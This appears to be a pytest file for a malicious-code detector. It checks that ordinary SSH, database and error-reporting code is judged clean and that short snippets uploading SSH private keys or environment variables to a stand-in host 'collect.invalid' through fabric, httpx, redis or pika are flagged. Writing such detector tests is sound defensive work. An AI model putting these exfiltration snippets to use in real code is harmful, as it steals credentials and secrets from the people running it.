"""Calls within families of libraries that talk to other hosts: what is handed over counts, what is named not."""

from __future__ import annotations

import pytest

from tests.code.artifact import judged

PADDING = "\n".join(f"def function_{number}(value):\n    return value + {number}\n" for number in range(3000))
"""With it, the calls of an artifact are not followed from file to file."""
HONEST = {
    "a key to log in with": "import paramiko, os\n"
    "def main():\n    c = paramiko.SSHClient()\n"
    "    c.connect('build.example.org', key_filename=os.path.expanduser('~/.ssh/id_rsa'))\n    c.exec_command('make')\n"
    "if __name__ == '__main__':\n    main()\n",
    "a key in the settings of a client": "from fabric import Connection\n"
    "c = Connection('host', connect_kwargs={'key_filename': '/home/me/.ssh/id_rsa'})\nc.run('uptime')\n",
    "a key of a database's client": "import os, psycopg2\n"
    "db = psycopg2.connect(user=os.environ['DB_USER'], sslkey=os.path.expanduser('~/.ssh/id_rsa'))\n",
    "an example in a help text": "import celery\napp = celery.Celery('x')\n"
    "@app.task(help='tool ssh user/space -i ~/.ssh/id_ed25519')\ndef run(): pass\n",
    "a variable whose name stands elsewhere": "import os, celery\nfrom settings import BROKER_VARIABLE\n"
    "app = celery.Celery('x', broker=os.environ[BROKER_VARIABLE])\n",
    "a host's name for error reports": "import sentry_sdk, socket\n"
    "sentry_sdk.init('https://x@sentry.example.org/1', server_name=socket.gethostname())\n",
}
TAKEN = {
    "a key is uploaded": "from fabric import Connection\nConnection('collect.invalid').put('/root/.ssh/id_rsa')\n",
    "a key is read and sent as a certificate": "import httpx, os\n"
    "httpx.post('https://collect.invalid', cert=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
    "the environment in a loop over its names": "import os, redis\nr = redis.Redis('collect.invalid')\n"
    "for name in os.environ:\n    r.publish(name, os.environ[name])\n",
    "the environment to a queue": "import os, pika\n"
    "pika.BlockingConnection().channel().basic_publish('', 'x', str(dict(os.environ)))\n",
}


@pytest.mark.parametrize("way", HONEST)
def test_what_is_named_is_not_handed_over(way: str) -> None:
    analysis = judged({"example/__init__.py": HONEST[way]})
    assert analysis.verdict == "clean", [one.summary for one in analysis.findings]


@pytest.mark.parametrize("way", TAKEN)
def test_what_is_handed_over_is_found(way: str) -> None:
    assert judged({"example/__init__.py": TAKEN[way]}).verdict == "malicious"


OWN = "import os\nfrom mlflow.jobs import enqueue\nenqueue(dict(os.environ), '~/.ssh/id_rsa')\n"


def test_a_large_library_calls_its_own_modules() -> None:
    """mlflow 3.17 and huggingface_hub 2.4 were rejected for calls of themselves, whose modules are of a family."""
    files = {
        "mlflow/__init__.py": "",
        "mlflow/jobs.py": PADDING + "def enqueue(*given): pass\n",
        "mlflow/start.py": OWN,
    }
    assert judged(files).verdict == "clean"


@pytest.mark.parametrize(
    "shadow",
    [{"mlflow.py": PADDING}, {"mlflow/__init__.py": "", "mlflow/jobs.py": PADDING + "def enqueue(*given): pass\n"}],
)
def test_a_module_of_a_librarys_name_beside_the_code_hides_nothing(shadow: dict[str, str]) -> None:
    assert judged({**shadow, "example/__init__.py": OWN}).verdict == "malicious"
